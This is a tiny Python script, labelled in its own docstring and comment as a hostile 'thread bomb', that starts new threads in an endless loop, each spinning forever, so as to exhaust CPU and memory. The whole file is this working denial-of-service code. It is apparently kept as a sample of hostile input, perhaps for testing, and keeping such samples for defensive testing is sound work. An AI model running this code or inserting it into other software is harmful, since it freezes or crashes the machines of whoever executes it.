"""A thread bomb: threads spinning forever."""
# ruff: noqa -- hostile data, not project code: written to attack, not to be linted
import threading
def spin():
    while True:
        pass
while True:
    threading.Thread(target=spin).start()
